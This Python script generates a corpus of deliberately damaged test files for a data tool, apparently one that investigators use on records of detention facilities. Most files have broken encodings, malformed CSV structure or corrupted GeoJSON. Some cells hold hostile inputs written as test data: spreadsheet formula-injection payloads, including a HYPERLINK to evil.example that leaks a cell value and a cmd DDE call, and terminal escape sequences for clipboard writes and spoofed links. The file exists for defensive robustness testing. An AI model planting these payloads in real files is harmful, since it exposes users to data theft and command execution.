"""Write the hostile corpus: the damaged files investigators really receive.

Run from the repository root to (re)make the committed files::

    python tests/data/hostile/make_corpus.py

Each file is small and holds no real person's data: facility references are public names,
every other value is made up. `tests/test_hostile.py` runs every class; big files (2M rows,
a 1 MB cell) are generated inside the tests instead. See README.md beside this file.
"""

from __future__ import annotations

import codecs
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
TAG = "СІЗО-2 Таганрог"        # ru-rostov-taganrog-sizo-2
SIMF = "SIZO-1 Simferopol"     # ua-crimea-simferopol-sizo-1
OLEN = "Olenivka colony"       # ua-donetsk-olenivka-ik-120


def text(name: str, content: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(content.encode(encoding))


def raw(name: str, content: bytes) -> None:
    (HERE / name).write_bytes(content)


def xlsx(name: str, sheets: dict[str, list[list]], merge: dict[str, list[str]] | None = None,
         formulas: bool = False, hidden: tuple[str, ...] = ()) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(r)
        for row in ws.iter_rows():
            for c in row:  # text that looks like a formula stays text (as typed after ')
                if isinstance(c.value, str) and c.value.startswith("=") and not formulas:
                    c.data_type = "s"
        for ref in (merge or {}).get(title, []):
            ws.merge_cells(ref)
        if title in hidden:
            ws.sheet_state = "hidden"
    if hidden:
        wb.active = next(i for i, t in enumerate(sheets) if t not in hidden)
    wb.save(HERE / name)
    # openpyxl writes a fixed timestamp only if told: keep the bytes stable across runs
    import zipfile

    src = (HERE / name).read_bytes()
    out = HERE / name
    with zipfile.ZipFile(__import__("io").BytesIO(src)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "docProps/core.xml":
                import re

                data = re.sub(rb"<dcterms:(created|modified)[^<]*</dcterms:\w+>", b"", data)
            info = zipfile.ZipInfo(item.filename, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(info, data)


def layer_features(*ids: str) -> list[dict]:
    data = json.loads((ROOT / "facilities.geojson").read_text(encoding="utf-8"))
    by_id = {f["properties"]["id"]: f for f in data["features"]}
    return [json.loads(json.dumps(by_id[i])) for i in ids]


def geojson(name: str, obj, allow_nan: bool = False) -> None:
    (HERE / name).write_text(json.dumps(obj, ensure_ascii=False, allow_nan=allow_nan) + "\n",
                             encoding="utf-8")


def main() -> None:
    head = "facility,date,category\n"
    # --- spreadsheets -----------------------------------------------------------------
    xlsx("multi_sheet.xlsx", {
        "Лист1": [["facility", "date"], [TAG, "2022-04"], [SIMF, "2022-05"]],
        "Лист2": [["facility", "date"], [OLEN, "2022-07"], [OLEN, "2022-07"], [TAG, "2023"]],
        "Sheet3": [],
    })
    xlsx("merged_cells.xlsx", {"Sheet1": [["facility", "date", "category"],
                                          [TAG, "2022-04", "pow"], [None, "2022-05", "pow"],
                                          [None, "2022-06", "civilian"],
                                          [SIMF, "2022-07", "civilian"]]},
         merge={"Sheet1": ["A2:A4"]})
    xlsx("formula_text_cells.xlsx", {"Sheet1": [
        ["facility", "note"],
        ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0"],
        ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
        [TAG, "=1+1"],
    ]})
    xlsx("uncached_formulas.xlsx", {"Sheet1": [["facility", "count"], [TAG, "=1+2"],
                                               [SIMF, 4]]}, formulas=True)
    xlsx("hidden_first_sheet.xlsx", {"old": [["facility"], [SIMF]],
                                     "current": [["facility"], [TAG], [TAG]]}, hidden=("old",))
    import shutil

    shutil.copy(HERE / "multi_sheet.xlsx", HERE / "xlsx_named.csv")
    # --- CSV: columns ---------------------------------------------------------------
    text("duplicate_columns.csv", "facility,date,facility\n"
         f"{TAG},2022,{SIMF}\n{OLEN},2023,{TAG}\n")
    text("duplicate_other_column.csv", "facility,note,note\n"
         f"{TAG},a,b\n{SIMF},c,d\n")
    text("own_facility_id.csv", "facility,facility_id\n"
         f"{TAG},my-own-code-17\n{SIMF},my-own-code-18\n")
    text("row_number_column.csv", "n,facility\n"
         f"1,{TAG}\n2,{TAG}\n3,{SIMF}\n4,{OLEN}\n5,{OLEN}\n")
    # --- CSV: bytes and encodings ---------------------------------------------------
    raw("nul_bytes.csv", (head + f"{TAG},2022-04,pow\n{SIMF}\x00,2022-05,civ\x00ilian\n"
                          f"{OLEN},2022-06,pow\n").encode())
    raw("mixed_utf8_cp1251.csv", head.encode() + f"{TAG},2022-04,pow\n".encode()
        + "СИЗО-2 Таганрог,2022-05,военнопленный\n".encode("cp1251")
        + f"{OLEN},2022-06,civilian\n".encode())
    raw("scan_pdf_named.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    raw("random_binary.csv", bytes(range(256)) * 8)
    text("web_page_named.csv", "<html><body><table><tr><td>facility</td></tr>"
         f"<tr><td>{TAG}</td></tr></table></body></html>\n")
    text("xml_spreadsheet_2003.csv", '<?xml version="1.0"?>\n<Workbook xmlns='
         '"urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1">'
         "</Worksheet></Workbook>\n")
    raw("utf16le_no_bom.csv", (head + f"{TAG},2022-04,pow\n{OLEN},2022-06,pow\n")
        .encode("utf-16-le"))
    raw("utf16be_no_bom.csv", (head + f"{TAG},2022-04,pow\n{OLEN},2022-06,pow\n")
        .encode("utf-16-be"))
    raw("utf16_bom_tab.txt", codecs.BOM_UTF16_LE + "facility\tdate\n".encode("utf-16-le")
        + f"{TAG}\t2022\n".encode("utf-16-le"))
    text("excel_sep_line.csv", "sep=;\nfacility;date;category\n"
         f"{TAG};2022-04;pow\n{SIMF};2022-05;civilian\n")
    text("excel_uk_locale.csv", "установа;кількість;рік\n"
         f"{TAG};12,0;2022\n{SIMF};1\u00a0234;2023\n{OLEN};7;2022\n", "cp1251")
    text("utf8_bom.csv", "\ufeff" + head + f"{TAG},2022-04,pow\n")
    text("trailing_padding.csv", "facility,date,,,\n"
         f"{TAG},2022-04,,,\n{SIMF},2022-05,,,\n,,,,\n,,,,\n")
    text("title_above_header.csv", "Звіт про утримання (упорядник: ГО),,\n,,\n"
         "facility,date,category\n"
         f"{TAG},2022-04,pow\nНевідома установа Х,2022-05,pow\n")
    text("ragged_row.csv", head + f"{TAG},2022-04,pow\n{SIMF},2022-05,pow,extra,cells\n")
    text("short_rows.csv", head + f"{TAG},2022-04\n{SIMF}\n")
    text("empty.csv", "")
    text("only_blank_lines.csv", "\n\n,,\n")
    raw("mac_cr_line_endings.csv", 'facility,date\r"СІЗО-2\rТаганрог",2022\r'
        f"{SIMF},2023\r".encode())
    text("tab_separated_named.csv", f"facility\tdate\r\n{TAG}\t2022\r\nНевідоме\t2023\r\n")
    text("multiline_cells.csv", f'facility,note\n"{TAG}","line one\nline two"\n'
         "Невідоме місце,x\n")
    text("unclosed_quote.csv", f'facility,date\n"{TAG},2022\n{SIMF},2023\n{OLEN},2022\n')
    text("quote_inside_cell.csv", 'facility,date\nСІЗО-2 "Таганрог",2022\n'
         f"{SIMF},2023\n")
    text("invisible_characters.csv", "facility\nСІЗО-2 Тага\u200bнрог\n"
         "SIZO\u00ad-1 Simferopol\nСIЗО-2 Таганрог\n")  # ZWSP, soft hyphen, Latin I
    # --- CSV: values -------------------------------------------------------------------
    text("huge_counts.csv", "facility,count\n"
         f"{TAG},3\n{SIMF},99999999999999999999\n")
    text("int64_overflow.csv", "facility,count\n"
         f"{TAG},9223372036854775807\n{SIMF},9223372036854775807\n")
    text("dates_out_of_range.csv", head + f"{TAG},1999-05-01,pow\n{SIMF},01.03.2013,pow\n"
         f"{OLEN},2091-01-01,pow\n{TAG},2022-04,pow\n")
    text("formula_injection.csv", "facility,note\n"
         '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",a\n'
         "+cmd|' /C calc'!A0,b\n-2+3,c\n@SUM(1+1),d\n\"\t=1+2\",e\n\"\r=1+2\",f\n"
         f"{TAG},=2+5\n")
    text("terminal_escapes.csv", "facility,date,count\n"
         f"{TAG}\x1b]52;c;ZXZpbA==\x07,2022,1\n"
         "\x1b[2J\x1b[31mSIZO\u202e9 ogornagaT,2022,2\n"
         f"{SIMF}\x1b]8;;http://evil.example\x07link\x1b]8;;\x07,2022,\x9b31m3\n")
    # --- layers (two real features, damaged) -----------------------------------------
    ids = ("ru-rostov-taganrog-sizo-2", "ua-crimea-simferopol-sizo-1")
    fc = {"type": "FeatureCollection", "features": layer_features(*ids)}
    f = json.loads(json.dumps(fc))
    f["features"][0]["geometry"] = None
    geojson("layer_null_geometry.geojson", f)
    f = json.loads(json.dumps(fc))
    pt = f["features"][0]["geometry"]["coordinates"]
    f["features"][0]["geometry"] = {"type": "MultiPoint", "coordinates": [pt, pt]}
    geojson("layer_multipoint.geojson", f)
    geojson("layer_top_level_array.geojson", json.loads(json.dumps(fc))["features"])
    f = json.loads(json.dumps(fc))
    for feat in f["features"]:  # what QGIS/ogr2ogr write for list fields
        p = feat["properties"]
        p["aliases"] = json.dumps(p["aliases"], ensure_ascii=False)
        p["sources"] = json.dumps(p["sources"], ensure_ascii=False)
        p["former_ids"] = "(0)"
    geojson("layer_lists_as_text.geojson", f)
    f = json.loads(json.dumps(fc))
    import math

    for feat in f["features"]:  # EPSG:3857 metres written where degrees belong
        lon, lat = feat["geometry"]["coordinates"]
        x = lon * 20037508.342789244 / 180
        y = math.log(math.tan((90 + lat) * math.pi / 360)) * 6378137.0
        feat["geometry"]["coordinates"] = [round(x, 2), round(y, 2)]
    geojson("layer_web_mercator.geojson", f)
    f = json.loads(json.dumps(fc))
    f["features"][0]["geometry"]["coordinates"] = [float("nan"), 47.2]
    f["features"][1]["geometry"]["coordinates"] = [float("inf"), 44.9]
    geojson("layer_nan_inf.geojson", f, allow_nan=True)
    f = json.loads(json.dumps(fc))
    del f["features"][0]["properties"]["id"]
    f["features"][1]["properties"]["id"] = None
    geojson("layer_missing_ids.geojson", f)
    f = json.loads(json.dumps(fc))
    f["features"][1]["properties"]["id"] = f["features"][0]["properties"]["id"]
    geojson("layer_duplicate_ids.geojson", f)
    text("layer_not_json.geojson", '{"type": "FeatureCollection", "features": [\n')


if __name__ == "__main__":
    main()
